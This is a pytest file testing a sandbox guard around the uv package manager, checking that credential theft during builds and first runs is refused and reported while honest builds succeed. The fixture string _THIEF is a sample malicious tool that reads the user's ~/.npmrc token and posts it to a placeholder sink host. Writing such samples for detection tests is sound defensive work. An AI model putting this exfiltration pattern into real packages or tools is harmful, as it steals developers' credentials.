"""The guard around uv: thefts from builds and first runs are refused and named, honest work goes on."""

import os
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from lab.demands import demand
from lab.guard import Outcome, guarded, run
from lab.packages import filled
from lab.residue import left_since, snapshot
from lab.template import template
from lab.world import World
from scenarios.checks import Played, broken
from scenarios.runner import missing
from scenarios.scenario import ENFORCE, OFF, Scenario, load
from uv_program import uv_program

_SAME_WAY = Path(__file__).parent / "packages" / "same-way-1.0.0"
_REGISTRY_PATIENCE = 240
_HOSTILE = ("O01", "O03", "O12")
_BENIGN = ("T-build", "T-probes", "O03-twin")
_REAL = ("docopt", "iniconfig")
# A backend that adds a console script to what the lab's own makes.
_TOOL = {
    "pyproject.toml": """
[build-system]
requires = []
build-backend = "tool_backend"
backend-path = ["."]

[project]
name = "{name}"
version = "1.0.0"
""",
    "tool_backend.py": """
import zipfile
import lab_backend
from lab_backend import prepare_metadata_for_build_wheel

def build_wheel(folder, settings=None, metadata=None):
    name = lab_backend.build_wheel(folder, settings, metadata)
    with zipfile.ZipFile(folder + "/" + name, "a") as wheel:
        wheel.writestr("{module}-1.0.0.dist-info/entry_points.txt", "[console_scripts]\\n{name} = {module}:main\\n")
    return name
""",
}
_HONEST = "def main():\n    print('at your service')\n"
_THIEF = """
import contextlib, urllib.request
from pathlib import Path

def main():
    loot = b"nothing"
    with contextlib.suppress(OSError):
        loot = Path.home().joinpath(".npmrc").read_bytes()
    with contextlib.suppress(OSError):
        urllib.request.urlopen("http://@SINK@:8080/log", loot, timeout=3)
    print("at your service")
"""


@pytest.fixture(scope="module")
def uv() -> Path:
    """Fetch uv once, or do without the test."""
    program = uv_program()
    demand(None if program else "uv could not be fetched once")
    assert program is not None
    return program


def _install(world: World, *names: str, cached: bool = True) -> list[str]:
    cache = [] if cached else ["--no-cache"]
    where = ["--python", str(template() / "bin" / "python"), "--target", str(world.site)]
    return [
        "uv",
        "pip",
        "install",
        *cache,
        "--default-index",
        world.index.url,
        "--no-build-isolation",
        *where,
        *names,
    ]


def _environment(world: World, uv: Path) -> dict[str, str]:
    return {**world.environment(), "PATH": f"{uv.parent}:{os.defpath}", "UV_PYTHON_DOWNLOADS": "never"}


def _run(world: World, uv: Path, command: list[str], guard: str = ENFORCE) -> Outcome:
    report = world.folder / "report.json"
    words = guarded(command, report) if guard == ENFORCE else [str(uv.parent / command[0]), *command[1:]]
    return run(words, _environment(world, uv), world.folder, report)


def _play(scenario: Scenario, uv: Path, guard: str, *, cached: bool = True) -> Played:
    with World(scenario.sources) as world:
        world.sink.answers = {
            path: filled(text.encode(), world.words()) for path, text in (scenario.answers or {}).items()
        }
        before = snapshot()
        outcome = _run(world, uv, _install(world, *scenario.install, cached=cached), guard)
        played = Played(scenario, world, outcome, guard, "hooks", left_since(before))
        assert list(broken(played)) == []
        return played


@pytest.mark.parametrize("name", _HOSTILE)
def test_the_thefts_are_real(lab: None, uv: Path, name: str) -> None:
    """With the guard off uv builds the package, and the theft happens: else the next test means nothing."""
    demand(missing(load(name)))
    _play(load(name), uv, OFF)


@pytest.mark.parametrize("name", _HOSTILE)
def test_a_theft_from_a_build_is_refused_and_named(guard: None, uv: Path, name: str) -> None:
    """Nothing is taken, the verified package is named, uv itself succeeds, and the status is 3."""
    demand(missing(load(name)))
    played = _play(load(name), uv, ENFORCE)

    report = played.outcome.report
    assert report is not None
    assert (report["run"]["manager"], report["run"]["exit_status"]) == ("uv", 0)
    assert {finding["stage"] for finding in played.outcome.findings} == {"build"}


def test_without_a_cache_it_is_named_as_well(guard: None, uv: Path) -> None:
    """`--no-cache` builds below a hidden directory of the temporary folder: named, and no refusal by itself."""
    played = _play(load("O01"), uv, ENFORCE, cached=False)

    assert {finding["act"] for finding in played.outcome.findings} == {"file.read", "net.connect"}


@pytest.mark.parametrize("guarding", [OFF, ENFORCE])
def test_the_index_is_no_right_of_a_build(guard: None, uv: Path, guarding: str) -> None:
    """The report names uv's index; a build that connects there, where uv has just been, is refused."""
    with World([_SAME_WAY]) as world:
        environment = {**_environment(world, uv), "INDEX": urlsplit(world.index.url).netloc}
        report = world.folder / "report.json"
        command = _install(world, "same-way")
        command = guarded(command, report) if guarding == ENFORCE else [str(uv), *command[1:]]
        outcome = run(command, environment, world.folder, report)

        asked = (world.folder / "marks" / "asked").read_text()
        assert asked == ("EPERM" if guarding == ENFORCE else "connected"), outcome.err
        if outcome.report is not None:
            assert outcome.report["run"]["hosts"] == [{"host": world.index.host, "reason": "an index"}]


@pytest.mark.parametrize("cached", [True, False])
@pytest.mark.parametrize("name", _BENIGN)
def test_honest_builds_are_clean(guard: None, uv: Path, name: str, cached: bool) -> None:
    """The benign twins build without a refusal, with a cache and without."""
    demand(missing(load(name)))
    _play(load(name), uv, ENFORCE, cached=cached)


def _tool(folder: Path, name: str, code: str) -> Path:
    module = name.replace("-", "_")
    place = folder / f"{name}-1.0.0"
    place.mkdir()
    for file, text in _TOOL.items():
        (place / file).write_text(text.replace("{name}", name).replace("{module}", module))
    (place / f"{module}.py").write_text(code)
    return place


def _tool_run(kind: str, world: World, name: str) -> list[str]:
    where = ["--python", str(template() / "bin" / "python"), "--default-index", world.index.url]
    if kind == "uvx":
        return ["uvx", *where, name]
    wanted = f'[project]\nname = "yard"\nversion = "0"\ndependencies = ["{name}"]\n'
    (world.folder / "pyproject.toml").write_text(wanted)
    return ["uv", "run", *where, name]


@pytest.mark.parametrize("kind", ["uv run", "uvx"])
def test_an_honest_tool_is_clean(guard: None, uv: Path, tmp_path: Path, kind: str) -> None:
    """A tool built from source, installed and started at once draws nothing, and is listed with both stages."""
    with World([_tool(tmp_path, "deck-hand", _HONEST)]) as world:
        outcome = _run(world, uv, _tool_run(kind, world, "deck-hand"))

    assert (outcome.status, outcome.findings) == (0, []), outcome.err
    assert "at your service" in outcome.out
    assert outcome.report is not None
    listed = {package["purl"]: package for package in outcome.report["packages"]}
    assert set(listed["pkg:pypi/deck-hand@1.0.0"]["stages"]) == {"build", "first-run"}


@pytest.mark.parametrize("kind", ["uv run", "uvx"])
def test_a_theft_at_the_first_run_is_refused_and_named(
    guard: None, uv: Path, tmp_path: Path, kind: str
) -> None:
    """A tool that reads the npm token when it is first started gets an error, and its name into the report."""
    with World([_tool(tmp_path, "light-fingers", _THIEF)]) as world:
        outcome = _run(world, uv, _tool_run(kind, world, "light-fingers"))
        leaks = world.leaks()

    assert leaks == []
    assert outcome.status == 3, outcome.err
    assert "at your service" in outcome.out
    refused = [finding for finding in outcome.findings if finding["action"] == "denied"]
    blamed = {(finding["package"], finding["identity"], finding["stage"]) for finding in refused}
    assert blamed == {("pkg:pypi/light-fingers@1.0.0", "verified", "first-run")}
    assert {finding["act"] for finding in refused} == {"file.read"}


def test_the_user_s_own_command_is_not_refused(guard: None, uv: Path, tmp_path: Path) -> None:
    """What follows `uv run` is the user's: it may read the user's files; the report says that it did."""
    with World([]) as world:
        code = "import pathlib; print(len(pathlib.Path.home().joinpath('.npmrc').read_bytes()))"
        python = str(template() / "bin" / "python")
        outcome = _run(world, uv, ["uv", "run", "--no-project", "--python", python, "python", "-c", code])

    assert outcome.status == 0, outcome.err
    assert {(finding["actor"], finding["action"]) for finding in outcome.findings} == {("project", "audited")}


@pytest.mark.timeout(_REGISTRY_PATIENCE, method="thread")
def test_real_source_distributions_install_clean(guard: None, uv: Path) -> None:
    """Packages of the registry, built from source by setuptools and hatchling, draw no refusal."""
    with World([]) as world:
        host = {
            key: value
            for key, value in os.environ.items()
            if key.lower().endswith(("_proxy", "ssl_cert_file"))
        }
        where = ["--python", str(template() / "bin" / "python"), "--target", str(world.site)]
        command = ["uv", "pip", "install", *where, "--no-binary", ",".join(_REAL), *_REAL]
        report = world.folder / "report.json"
        outcome = run(guarded(command, report), {**host, **_environment(world, uv)}, world.folder, report)

    if "error sending request" in outcome.err or "Failed to fetch" in outcome.err:
        demand("no package registry answers: real packages were not tried")
    assert (outcome.status, outcome.findings) == (0, []), outcome.err
    assert outcome.report is not None
    named = {
        (package["purl"].partition("@")[0], package["identity"]) for package in outcome.report["packages"]
    }
    assert {(f"pkg:pypi/{name}", "verified") for name in _REAL} <= named
    assert {identity for _, identity in named} == {"verified"}


_PROJECTS = {
    "setuptools": ("setuptools>=61", "setuptools.build_meta", "docopt"),
    "native": ("setuptools>=61", "setuptools.build_meta", "markupsafe"),
    "hatchling": ("hatchling", "hatchling.build", "iniconfig"),
    "flit": ("flit_core>=3.4", "flit_core.buildapi", "idna"),
    "poetry": ("poetry-core>=2", "poetry.core.masonry.api", "tomlkit"),
}
_PROJECT = """
[build-system]
requires = ["{requires}"]
build-backend = "{backend}"

[project]
name = "mine"
version = "1.0.0"
description = "a project of one's own"
requires-python = ">=3.11"
dependencies = ["{dependency}"]

[tool.uv]
no-binary-package = ["{dependency}"]
"""


@pytest.mark.timeout(240, method="thread")
@pytest.mark.parametrize("kind", _PROJECTS)
def test_real_projects_sync_and_run(guard: None, uv: Path, kind: str) -> None:
    """A project of each common back end, with a dependency built from source, syncs and runs without a refusal."""
    requires, backend, dependency = _PROJECTS[kind]
    with World([]) as world:
        folder = world.folder / "mine"
        (folder / "mine").mkdir(parents=True)
        (folder / "mine" / "__init__.py").write_text('"""Mine."""\n', encoding="utf-8")
        text = _PROJECT.format(requires=requires, backend=backend, dependency=dependency)
        (folder / "pyproject.toml").write_text(text, encoding="utf-8")
        host = {
            key: value
            for key, value in os.environ.items()
            if key.lower().endswith(("_proxy", "ssl_cert_file"))
        }
        environment = {**host, **_environment(world, uv), "UV_PYTHON": str(template() / "bin" / "python")}
        environment.pop("UV_SYSTEM_PYTHON", None)
        report = world.folder / "report.json"
        synced = run(guarded(["uv", "sync"], report), environment, folder, report)
        ran = run(guarded(["uv", "run", "python", "-c", "import mine"], report), environment, folder, report)

    if "error sending request" in synced.err or "Failed to fetch" in synced.err:
        demand("no package registry answers: real projects were not tried")
    for outcome in (synced, ran):
        assert [each for each in outcome.findings if each["action"] in ("denied", "killed")] == []
        assert outcome.status == 0, outcome.out + outcome.err
